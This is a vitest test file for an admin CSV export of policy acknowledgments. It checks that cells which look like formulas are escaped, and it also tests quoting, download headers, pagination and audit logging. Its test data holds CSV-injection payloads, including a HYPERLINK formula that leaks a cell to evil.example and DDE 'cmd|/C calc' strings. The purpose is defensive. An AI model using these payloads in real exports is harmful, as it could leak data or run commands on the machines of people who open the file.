import Papa from 'papaparse'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { createMember, createPolicy, type Member } from '../../testing/factories.ts'
import { send } from '../../testing/send.ts'
import { startTestServer, type TestServer } from '../../testing/test-server.ts'

const ACKNOWLEDGMENTS = 'GET /admin/policies/acknowledgments.csv'
const OUTSTANDING = 'GET /admin/policies/outstanding.csv'

let server: TestServer
let admin: Member

beforeAll(async () => {
  server = await startTestServer()
})
afterAll(async () => server.stop())
beforeEach(async () => {
  admin = await createMember(server, { role: 'admin', firstName: 'Ada', lastName: 'Broker' })
})

async function download(call: typeof ACKNOWLEDGMENTS | typeof OUTSTANDING, query = {}) {
  const path = `/api/v1${call.slice(4)}?${new URLSearchParams(query).toString()}`
  const headers = { Authorization: `Bearer ${admin.token}` }
  const answer = await send(server.url, { path, headers })
  const { data, errors } = Papa.parse<Record<string, string>>(answer.body.replace(/^\uFEFF/, ''), {
    header: true,
    skipEmptyLines: true,
  })
  expect(errors).toEqual([])
  return { ...answer, rows: data }
}

describe('a cell that starts like a formula is shown, and not run', () => {
  const FORMULAS = [
    `=HYPERLINK("http://evil.example/?leak="&A1;"Click")`,
    '+1+cmd|/C calc!A0',
    '-2+3+cmd|/C calc!A0',
    '@SUM(1+1)*cmd|/C calc!A0',
    '=1+1',
    '＝1+1',
    '＠SUM(1)',
  ]

  test.each(FORMULAS)('%s as a title, a name and a browser', async (formula) => {
    // A header holds no full-width signs.
    const browser = formula.normalize('NFKC')
    const policy = await createPolicy(server.api.as(admin), { title: formula })
    const member = await createMember(server, { firstName: formula, lastName: formula })
    await server.api.as(admin)('POST /policies/:id/assign', {
      params: { id: policy.id },
      body: { user_ids: [member.id] },
    })
    const outstanding = await download(OUTSTANDING, { user_id: member.id })
    await server.api.as(member)('POST /policies/:id/acknowledge', {
      params: { id: policy.id },
      headers: { 'User-Agent': browser },
    })
    const records = await download(ACKNOWLEDGMENTS, { user_id: member.id })
    expect(outstanding.rows).toMatchObject([
      { policy_title: `'${formula}`, person_name: `'${formula} ${formula}` },
    ])
    expect(records.rows).toMatchObject([
      {
        policy_title: `'${formula}`,
        person_name: `'${formula} ${formula}`,
        user_agent: `'${browser}`,
      },
    ])
    const cells = [...outstanding.rows, ...records.rows].flatMap((row) => Object.values(row))
    expect(cells.filter((cell) => /^[=+\-@＝＋－＠\t\r\n]/.test(cell))).toEqual([])
  })

  test('a tab, a carriage return or a line feed before it changes nothing', async () => {
    const policy = await createPolicy(server.api.as(admin))
    for (const start of ['\t', '\r', '\n', '\r\n', ' ']) {
      const member = await createMember(server)
      await server.api.as(admin)('POST /policies/:id/assign', {
        params: { id: policy.id },
        body: { user_ids: [member.id] },
      })
      // Beneath the API, as an import or an older version might have left it.
      await server.db
        .updateTable('users')
        .set({ email: `${start}=1+1${member.id}` })
        .where('id', '=', member.id)
        .execute()
      const { rows } = await download(OUTSTANDING, { user_id: member.id })
      expect(rows).toHaveLength(1)
      expect(rows[0]!.person_email).not.toMatch(/^[=+\-@\t\r\n]/)
      expect(rows[0]!.person_email).toContain(`=1+1${member.id}`)
    }
  })
})

test('quotes, commas, semicolons and line breaks stay in their cell', async () => {
  const title = `Say "no", twice; 'always' \u2028 and — naïve 你好 🏠`
  const policy = await createPolicy(server.api.as(admin), { title })
  const member = await createMember(server, { firstName: 'O"Brien,', lastName: 'x;y' })
  await server.api.as(member)('POST /policies/:id/acknowledge', { params: { id: policy.id } })
  const { rows, body } = await download(ACKNOWLEDGMENTS, { policy_id: policy.id })
  expect(rows).toMatchObject([{ policy_title: title, person_name: 'O"Brien, x;y' }])
  expect(body.startsWith('\uFEFF')).toBe(true)
})

test('is a download with a plain name, kept nowhere', async () => {
  for (const [call, name] of [
    [ACKNOWLEDGMENTS, 'acknowledgments'],
    [OUTSTANDING, 'outstanding'],
  ] as const) {
    const { headers, status } = await download(call)
    expect(status).toBe(200)
    expect(headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(headers['content-disposition']).toMatch(
      new RegExp(`^attachment; filename="${name}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
    )
    expect(headers['cache-control']).toBe('no-store')
  }
})

test('has every record that matches and all that is needed to check the chain', async () => {
  const policy = await createPolicy(server.api.as(admin), { title: 'Checked' })
  const member = await createMember(server)
  const { body: record } = await server.api.as(member)('POST /policies/:id/acknowledge', {
    params: { id: policy.id },
  })
  const { rows } = await download(ACKNOWLEDGMENTS, { policy_id: policy.id })
  const { id: _, ...sealed } = record
  const expected = Object.entries({ ...sealed, state: 'current' })
  expect(rows).toHaveLength(1)
  expect(rows[0]).toMatchObject(
    Object.fromEntries(expected.map(([key, value]) => [key, String(value ?? '')])),
  )
})

test('more rows than one page of it holds are all there, once, in order', async () => {
  const policy = await createPolicy(server.api.as(admin), { title: 'Long' })
  const names = Array.from({ length: 1205 }, (_, n) => `Person ${String(n).padStart(4, '0')}`)
  await server.db
    .insertInto('users')
    .values(
      names.map((name, n) => ({
        id: `00000000-0000-7000-8000-${String(n).padStart(12, '0')}`,
        first_name: name,
        last_name: '',
        email: `long-${n}@example.com`,
        role: 'manager',
      })),
    )
    .execute()
  await server.api.as(admin)('POST /policies/:id/assign', {
    params: { id: policy.id },
    body: { roles: ['manager'] },
  })
  const { rows } = await download(OUTSTANDING, {
    policy_id: policy.id,
    sort: 'person_name',
    order: 'asc',
  })
  expect(rows.map((row) => row.person_name)).toEqual(names)
})

test('that somebody took it is written down, with what they asked for', async () => {
  const query = { search: 'fraud', state: 'pending' }
  await download(OUTSTANDING, query)
  const event = await server.db
    .selectFrom('audit_events')
    .selectAll()
    .orderBy('id', 'desc')
    .limit(1)
    .executeTakeFirstOrThrow()
  expect(event).toMatchObject({
    action: 'outstanding.exported',
    actor_id: admin.id,
    actor_name: 'Ada Broker',
    ip: '127.0.0.1',
    details: query,
  })
})
